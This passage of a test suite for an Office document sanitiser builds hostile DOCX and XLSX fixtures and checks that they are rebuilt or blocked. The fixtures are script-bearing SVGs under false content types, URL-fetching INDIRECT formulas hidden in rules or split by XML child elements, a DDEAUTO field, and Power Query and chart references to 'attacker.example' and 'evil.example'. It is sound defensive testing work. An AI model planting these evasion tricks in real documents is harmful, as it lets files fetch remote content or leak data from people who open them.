    assert b"EAUTO" not in zipfile.ZipFile(dest).read("word/document.xml")
    assert ("dynamic_data_exchange", "DDEAUTO field") in [
        (a.switch, a.detail) for a in result.actions
    ]


_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script>'
    b'<rect width="10" height="10" fill="red"/></svg>'
)


@pytest.mark.parametrize(
    ("name", "content_type", "data"),
    [
        ("image1.png", "application/xml", _SVG),
        ("image1.bin", "application/octet-stream", _SVG),
        ("image1.xml", "", _SVG),
        ("image1.bin", "application/octet-stream", None),  # a PNG with a script after it
    ],
)
def test_an_image_served_as_another_type_is_rebuilt(
    tmp_path: Path, name: str, content_type: str, data: bytes | None
) -> None:
    """(a review) The picture an image relationship names was judged by its content
    type alone: an SVG with a script served as application/xml (or named .xml, .bin)
    was delivered, and LibreOffice drew it; a PNG served as octet-stream kept what
    followed it. It is rebuilt as a PNG (or replaced by the placeholder)."""
    import docx

    doc = docx.Document()
    buf = io.BytesIO()
    from PIL import Image

    Image.new("RGB", (8, 8), "blue").save(buf, "PNG")
    png = buf.getvalue()
    doc.add_picture(io.BytesIO(png))
    payload = data if data is not None else png + b"<script>alert(2)</script>"
    source = _save(doc)
    old = next(n for n in zipfile.ZipFile(io.BytesIO(source)).namelist() if "media/" in n)
    new = f"word/media/{name}"

    def types(x: bytes) -> bytes:
        if content_type:
            x = x.replace(
                b"</Types>",
                f'<Override PartName="/{new}" ContentType="{content_type}"/></Types>'.encode(),
            )
        return x

    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as zin, zipfile.ZipFile(out, "w") as zout:
        for item in zin.infolist():
            body = zin.read(item)
            if item.filename == old:
                zout.writestr(new, payload)
                continue
            if item.filename == "[Content_Types].xml":
                body = types(body)
            if item.filename == "word/_rels/document.xml.rels":
                body = body.replace(old.split("/", 1)[1].encode(), new.split("/", 1)[1].encode())
            zout.writestr(item, body)
    path = _write(tmp_path, "in.docx", out.getvalue())
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
    rebuilt = zipfile.ZipFile(dest)
    picture = rebuilt.read(new)
    assert picture.startswith(b"\x89PNG") and b"script" not in picture
    assert f'PartName="/{new}" ContentType="image/png"'.encode() in rebuilt.read(
        "[Content_Types].xml"
    )
    assert any(a.switch == "embedded_images" for a in result.actions)


_URL_FORMULA = "INDIRECT(\"'http://127.0.0.1:9/x.xlsx'#$Sheet1.A1\")"
_WORKSHEET_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"


def _xlsx_sheet_renamed(sheet_name: str, content_type: str, formula: str) -> bytes:
    """The workbook of _xlsx_formula with its sheet moved to ``sheet_name`` and
    declared with ``content_type`` (an extension's default)."""
    base = _xlsx_formula(formula)
    sheet = zipfile.ZipFile(io.BytesIO(base)).read("xl/worksheets/sheet1.xml")
    extension = sheet_name.rsplit(".", 1)[1]

    def types(xml: bytes) -> bytes:
        text = re.sub(rb'<Override PartName="/xl/worksheets/sheet1.xml"[^>]*/>', b"", xml)
        default = f'<Default Extension="{extension}" ContentType="{content_type}"/>'
        return text.replace(b"</Types>", default.encode() + b"</Types>")

    return rezip(
        base,
        {
            "xl/worksheets/sheet1.xml": None,
            f"xl/worksheets/{sheet_name}": sheet,
            "xl/_rels/workbook.xml.rels": lambda x: x.replace(
                b"worksheets/sheet1.xml", f"worksheets/{sheet_name}".encode()
            ),
            "[Content_Types].xml": types,
        },
    )


@pytest.mark.parametrize(
    ("sheet_name", "content_type"),
    [("sheet1.dat", "application/octet-stream"), ("sheet1.bin", "image/png")],
)
def test_a_part_is_read_as_xml_whatever_its_content_type_says(
    tmp_path: Path, sheet_name: str, content_type: str
) -> None:
    """A worksheet declared application/octet-stream and named .dat was never parsed:
    its formulas were delivered, and LibreOffice, which follows the worksheet
    relationship whatever the content type, fetched the URL an INDIRECT named. A part
    whose bytes start as XML does is read as XML, unless only pictures, fonts or other
    binary relationships reach it."""
    data = _xlsx_sheet_renamed(sheet_name, content_type, _URL_FORMULA)
    path = _write(tmp_path, "in.xlsx", data)
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
    sheet = member(dest, f"xl/worksheets/{sheet_name}")
    assert b"<f>" not in sheet and b"127.0.0.1" not in sheet
    assert ("external_hyperlinks", "INDIRECT formula") in [
        (a.switch, a.detail) for a in result.actions
    ]


def test_a_part_that_starts_as_xml_but_is_not_is_refused(tmp_path: Path) -> None:
    """What a reader would parse as XML and this engine cannot is not delivered."""
    data = rezip(
        _xlsx_sheet_renamed("sheet1.dat", "application/octet-stream", "1+1"),
        {"xl/worksheets/sheet1.dat": b'<worksheet a="1" a="2"/>'},
    )
    path = _write(tmp_path, "in.xlsx", data)
    result, _ = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "unprocessable", result


_CT_OBFUSCATED_FONT = "application/vnd.openxmlformats-officedocument.obfuscatedFont"


def test_binary_parts_that_start_with_a_bracket_stay_binary(tmp_path: Path) -> None:
    """An obfuscated font (its first bytes scrambled) may start with "<": a part only
    binary relationships reach is not parsed as XML."""
    font = b"<\x00\x01garbage that is no XML \xff\xfe"
    data = rezip(
        build_docx(False),
        {
            "word/fonts/font1.odttf": font,
            "word/_rels/fontTable.xml.rels": (
                b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                b'relationships"><Relationship Id="rIdF" Type="http://schemas.'
                b'openxmlformats.org/officeDocument/2006/relationships/font" '
                b'Target="fonts/font1.odttf"/></Relationships>'
            ),
            "[Content_Types].xml": content_types({"/word/fonts/font1.odttf": _CT_OBFUSCATED_FONT}),
        },
    )
    path = _write(tmp_path, "in.docx", data)
    result, dest = disarm(path, tmp_path, switches("allow"))
    assert result.outcome in ("rebuilt", "unmodified"), result
    out = dest if result.outcome == "rebuilt" else path
    assert member(out, "word/fonts/font1.odttf") == font


def _xlsx_values_only(rules: str) -> bytes:
    """A workbook with values only (no cell formula) and ``rules`` in its sheet."""
    import openpyxl

    wb = openpyxl.Workbook()
    wb.active["A1"] = 1
    wb.active["A2"] = 2
    buf = io.BytesIO()
    wb.save(buf)

    def sheet(xml: bytes) -> bytes:
        anchor = b"<pageMargins" if b"<pageMargins" in xml else b"</worksheet>"
        return xml.replace(anchor, rules.encode() + anchor, 1)

    return rezip(buf.getvalue(), {"xl/worksheets/sheet1.xml": sheet})


@pytest.mark.parametrize(
    "rules",
    [
        '<conditionalFormatting sqref="A1:A2"><cfRule type="colorScale" priority="1">'
        f'<colorScale><cfvo type="formula" val="{_URL_FORMULA.replace(chr(34), "&quot;")}"/>'
        '<cfvo type="max"/><color rgb="FFF8696B"/><color rgb="FF63BE7B"/></colorScale>'
        "</cfRule></conditionalFormatting>",
        '<conditionalFormatting sqref="A1:A2"><cfRule type="expression" dxfId="0" '
        f'priority="1"><formula\n>{_URL_FORMULA}</formula\n></cfRule></conditionalFormatting>',
        '<dataValidations count="1"><dataValidation type="list" sqref="A1">'
        f"<formula1\t>{_URL_FORMULA}</formula1></dataValidation></dataValidations>",
    ],
    ids=["colour-scale-threshold-alone", "line-break-after-formula", "tab-after-formula1"],
)
def test_rules_in_a_sheet_without_cell_formulas_are_judged(tmp_path: Path, rules: str) -> None:
    """The cheap test for formulas outside cells missed a sheet whose only formula
    was a colour scale's threshold, or a rule formula written ``<formula\\n>``:
    LibreOffice fetched the URL as it drew the sheet, from the delivered file."""
    path = _write(tmp_path, "in.xlsx", _xlsx_values_only(rules))
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
    out = member(dest, "xl/worksheets/sheet1.xml")
    assert b"127.0.0.1" not in out and b"INDIRECT" not in out
    assert_consistent(dest)


@pytest.mark.parametrize(
    "formula",
    [
        f"1+1<v/>+{_URL_FORMULA}",  # (LibreOffice read the last piece)
        '<z:x xmlns:z="urn:example:z"/>' + _URL_FORMULA,
        'INDI<z:x xmlns:z="urn:example:z"/>RECT("\'http://127.0.0.1:9/x.xlsx\'#$Sheet1.A1")',
    ],
    ids=["text-after-a-child", "text-after-a-foreign-child", "call-split-by-a-child"],
)
def test_a_formula_with_child_elements_is_judged_whole(tmp_path: Path, formula: str) -> None:
    """A formula is text alone. The check read the text before the first child
    element; readers join the pieces or take the last one. The formula is judged,
    and written, as the text of all its pieces."""
    path = _write(tmp_path, "in.xlsx", _xlsx_formula(formula))
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
    sheet = member(dest, "xl/worksheets/sheet1.xml")
    assert b"127.0.0.1" not in sheet and b"urn:example" not in sheet
    assert b"<f>" not in sheet and b"<v>0</v>" in sheet


def test_a_rule_formula_with_child_elements_is_judged_whole(tmp_path: Path) -> None:
    rules = (
        '<conditionalFormatting sqref="A1:A2"><cfRule type="expression" dxfId="0" priority="1">'
        '<formula>INDI<z:x xmlns:z="urn:example:z"/>RECT("\'http://127.0.0.1:9/x.xlsx\''
        '#$Sheet1.A1")</formula></cfRule></conditionalFormatting>'
    )
    path = _write(tmp_path, "in.xlsx", _xlsx_values_only(rules))
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
    out = member(dest, "xl/worksheets/sheet1.xml")
    assert b"127.0.0.1" not in out and b"cfRule" not in out


def test_a_benign_formula_with_a_child_element_is_kept_as_its_text(tmp_path: Path) -> None:
    path = _write(tmp_path, "in.xlsx", _xlsx_formula("SU<z:x xmlns:z='urn:example:z'/>M(A1)"))
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
    assert b"<f>SUM(A1)</f>" in member(dest, "xl/worksheets/sheet1.xml")


def test_an_instruction_with_child_elements_is_neutralised(tmp_path: Path) -> None:
    """Instruction text is text alone; one holding a child element reads as its
    pieces joined or as its last piece, whichever the reader takes."""
    instr = f'<w:instrText xml:space="preserve">X<w14:x/>{DDE}</w:instrText>'
    path = _write(tmp_path, "in.docx", _docx_with(BEGIN + f"<w:r>{instr}</w:r>" + SEP + END))
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
    document = member(dest, "word/document.xml").decode()
    assert "DDEAUTO" not in document
    assert dde_found(dest) == ""


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_power_query_queries_go_with_the_data_connections(tmp_path: Path, encoding: str) -> None:
    """Power Query keeps its queries (M code: here a Web.Contents call to a host of the
    file's choosing) in a customXml item whose root is DataMashup, which Excel writes
    in UTF-16; a refresh runs them. They were kept when the data connections went."""
    import base64

    mashup = base64.b64encode(
        b'section Section1; shared Query1 = Web.Contents("http://attacker.example/q");'
    ).decode()
    item = (
        f'<?xml version="1.0" encoding="{encoding}"?>'
        f'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">{mashup}</DataMashup>'
    ).encode(encoding)
    data = rezip(
        build_xlsx(False),
        {
            "customXml/item1.xml": item,
            "xl/_rels/workbook.xml.rels": add_rels(
                ("rIdQ", _REL + "customXml", "../customXml/item1.xml", False)
            ),
        },
    )
    path = _write(tmp_path, "query.xlsx", data)
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
    assert "customXml/item1.xml" not in names(dest)
    for name in names(dest):
        assert mashup.encode() not in member(dest, name), name
    assert_consistent(dest)
    (found,) = [a.detail for a in result.actions if a.switch == "dynamic_data_exchange"]
    assert found == "Power Query queries"
    result, _ = disarm(path, tmp_path, switches("sanitise", dynamic_data_exchange="allow"))
    assert result.outcome in ("rebuilt", "unmodified"), result
    result, _ = disarm(path, tmp_path, switches("sanitise", dynamic_data_exchange="disallow"))
    assert result.outcome == "blocked", result


def test_an_office_2016_chart_reference_to_another_workbook_goes(tmp_path: Path) -> None:
    """A chartex chart (waterfall, treemap...) keeps its data references in cx:f: one
    naming another workbook goes, and the values it caches (cx:lvl) stay."""
    chart = (
        b'<cx:chartSpace xmlns:cx="http://schemas.microsoft.com/office/drawing/2014/chartex">'
        b'<cx:chartData><cx:data id="0"><cx:numDim type="val">'
        b"<cx:f>'http://evil.example/[book.xlsx]Sheet1'!$A$1:$A$2</cx:f>"
        b'<cx:lvl ptCount="2"><cx:pt idx="0">1</cx:pt><cx:pt idx="1">2</cx:pt></cx:lvl>'
        b"</cx:numDim></cx:data></cx:chartData></cx:chartSpace>"
    )
    data = _xlsx_with_part(
        "charts/chartEx1.xml",
        chart,
        "http://schemas.microsoft.com/office/2014/relationships/chartEx",
        "application/vnd.ms-office.chartex+xml",
    )
    path = _write(tmp_path, "chartex.xlsx", data)
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
    out = member(dest, "xl/charts/chartEx1.xml")
    assert b"evil.example" not in out and b"<cx:f" not in out
    assert b'<cx:pt idx="1">2</cx:pt>' in out
    assert_consistent(dest)
